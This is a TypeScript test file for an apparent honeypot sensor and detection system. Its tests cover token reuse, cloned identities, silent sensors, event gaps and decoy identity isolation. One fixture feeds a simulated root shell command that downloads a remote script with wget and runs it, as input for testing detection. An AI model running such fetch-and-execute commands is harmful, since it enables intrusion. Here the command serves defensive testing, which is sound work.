import assert from 'node:assert/strict'
import { randomUUID } from 'node:crypto'
import { after, before, test } from 'node:test'
import { uuidv7 } from '@shenlou/link/uuid'
import { type Actor, systemActor } from '../actor.ts'
import { decoys } from '../decoys-view.ts'
import { findings } from '../detect/findings.ts'
import { startDetection } from '../detect/main.ts'
import { ingestBatch } from '../ingest/ingest.ts'
import { commandEvents } from '../ingest/test-events.ts'
import { notices } from '../notices.ts'
import { testCore } from '../store/test-core.ts'
import { keepIdentities } from './identities.ts'
import { noteProblem } from './problems.ts'
import { watchSensors } from './watch.ts'

let later = 0
const core = await testCore(() => Date.now() + later)
let detection: Awaited<ReturnType<typeof startDetection>>
let watch = watchSensors(core)
before(async () => {
  detection = await startDetection(core)
})
after(async () => {
  await watch.close()
  await detection.close()
  await core.close()
})

const scope = 'group/machinery/park-1'
const minute = 60_000
const make = async (name: string, where = scope): Promise<string> => {
  const id = uuidv7()
  await core.sql`insert into sensor (id, name, role, scope, status, last_seen_at)
    values (${id}, ${name}, 'decoys', ${where}, 'confirmed', to_timestamp(${core.clock() / 1000}::float8))`
  return id
}
const heard = (id: string) => core.sql`update sensor set last_seen_at = to_timestamp(${core.clock() / 1000}::float8) where id = ${id}`
const look = async (): Promise<void> => {
  await watch.look()
  await detection.reached()
}
const query = { limit: 100 }
const found = async (sensor: string) => (await findings(core, systemActor, { query })).items.filter((each) => each.sensor === sensor)
const reader = (scopes: string[]): Actor => ({ ...systemActor, kind: 'person', id: uuidv7(), scopes })
const told = async (name: string, scopes = [scope]) =>
  (await notices(core, reader(scopes), { query })).items.filter((each) => each.title.en.includes(name) || each.title.zh.includes(name))

test('a token that is used again is one finding with a ticket and a notice to its scope alone, however often it comes', async () => {
  const id = await make('twice')
  for (const address of ['203.0.113.9', '203.0.113.9', '203.0.113.10']) {
    await noteProblem(core, id, 'token-reused', `its enrolment token was used a second time, from ${address}`, address)
    await look()
  }
  later += 11 * minute
  await heard(id)
  await look()
  const [finding, ...more] = await found(id)
  assert.deepEqual([finding?.rule, finding?.severity, finding?.source, finding?.count, more.length], ['sensor.token-reused', 'high', '203.0.113.9', 2, 0])
  assert.ok(finding?.evidence.some(({ value }) => value.includes('from 203.0.113.10')))
  assert.notEqual(finding?.incident, null)
  const [notice, ...others] = await told('Enrolment token')
  assert.deepEqual([notice?.kind, notice?.count, others.length], ['ticket', 1, 0])
  assert.deepEqual(await told('Enrolment token', ['group/energy']), [])
})

test('a cloned identity is a finding that joins what else its address did', async () => {
  const id = await make('cloned')
  await noteProblem(core, id, 'cloned', 'a second connection with its certificate was refused, from 203.0.113.66 while it is at 10.0.0.5', '203.0.113.66')
  await look()
  const session = uuidv7()
  const source = { ip: '203.0.113.66', port: 4000 }
  const body = { mode: 'shell', input: 'wget http://203.0.113.9/x.sh; sh x.sh', user: 'root', directory: '/' }
  await ingestBatch(core, { sensor: { id, scope }, epoch: randomUUID(), first: 1, events: commandEvents(1, 1, { session, source, body }) })
  await detection.reached()
  const all = (await findings(core, systemActor, { query })).items.filter((each) => each.source === '203.0.113.66')
  assert.ok(all.some(({ rule }) => rule === 'sensor.cloned') && all.length > 1)
  assert.equal(new Set(all.map(({ incident }) => incident)).size, 1)
})

test('a silent sensor is told once, again when it was back in between, and not for the time that the core was away', async () => {
  const id = await make('quiet')
  later += 2 * minute
  await watch.close()
  watch = watchSensors(core)
  await look()
  assert.deepEqual(await found(id), [], 'the core was not there to hear it')
  later += 2 * minute
  await look()
  await look()
  await watch.close()
  watch = watchSensors(core)
  later += 2 * minute
  await look()
  const [finding, ...more] = await found(id)
  assert.deepEqual([finding?.rule, finding?.count, finding?.incident, more.length], ['sensor.silent', 1, null, 0])
  assert.deepEqual(
    (await told('quiet')).map(({ kind, link, count }) => [kind, link, count]),
    [['sensor', '/sensors', 1]],
  )
  assert.deepEqual(await told('quiet', ['group/energy']), [])
  await heard(id)
  later += 70 * minute
  await look()
  assert.deepEqual([(await found(id)).map(({ count }) => count), (await told('quiet')).map(({ count }) => count)], [[2], [2]])
})

test('a gap and rejected events are findings with a notice; new ones within the hour only count', async () => {
  const id = await make('holes')
  const say = (first: number, events: unknown[]) => ingestBatch(core, { sensor: { id, scope }, epoch, first, events })
  const epoch = randomUUID()
  await say(1, commandEvents(1, 2))
  await say(6, [...commandEvents(6, 2), { nonsense: true }])
  later += 2 * minute
  await heard(id)
  await look()
  await say(9, [{ more: 'nonsense' }])
  await look()
  const rules = async () => (await found(id)).flatMap(({ rule, count }) => (rule.startsWith('sensor.') ? `${rule} ${count}` : [])).sort()
  assert.deepEqual(await rules(), ['sensor.gap 1', 'sensor.rejected 1'])
  assert.equal((await told('holes')).length, 2)
  later += 61 * minute
  await heard(id)
  await look()
  assert.deepEqual(await rules(), ['sensor.gap 1', 'sensor.rejected 2'])
  const gap = (await found(id)).find(({ rule }) => rule === 'sensor.gap')
  assert.ok(gap?.evidence.some(({ value }) => value.startsWith('3 events are missing')))
})

test('a decoy host says who its decoys are, and nothing of the decoys of another', async () => {
  const [own, other] = [await make('host-own'), await make('host-other')]
  await core.sql`insert into template (name, title, text, version, applied_by, applied_at) values ('t', '{}', '', 1, '', now())`
  await core.sql`insert into decoy (id, template, persona, scope, host, organisation, services, secrets) values ('erp', 't', 'p', ${scope}, 'host-own', '{}', '[]', '')`
  const identity = { decoy: 'erp', hostname: 'hc-app17\u001b', mac: '00:50:56:aa:bb:cc', serial: 'VMware-1' }
  await keepIdentities(core, other, [{ ...identity, hostname: 'forged' }])
  assert.equal((await decoys(core, systemActor)).items[0]?.identity, null)
  await keepIdentities(core, own, [identity, { ...identity, decoy: 'gone' }])
  const [row] = (await decoys(core, systemActor)).items
  assert.deepEqual([row?.hostname, row?.identity?.mac, row?.identity?.serial], ['hc-app17\\x1b', '00:50:56:aa:bb:cc', 'VMware-1'])
})
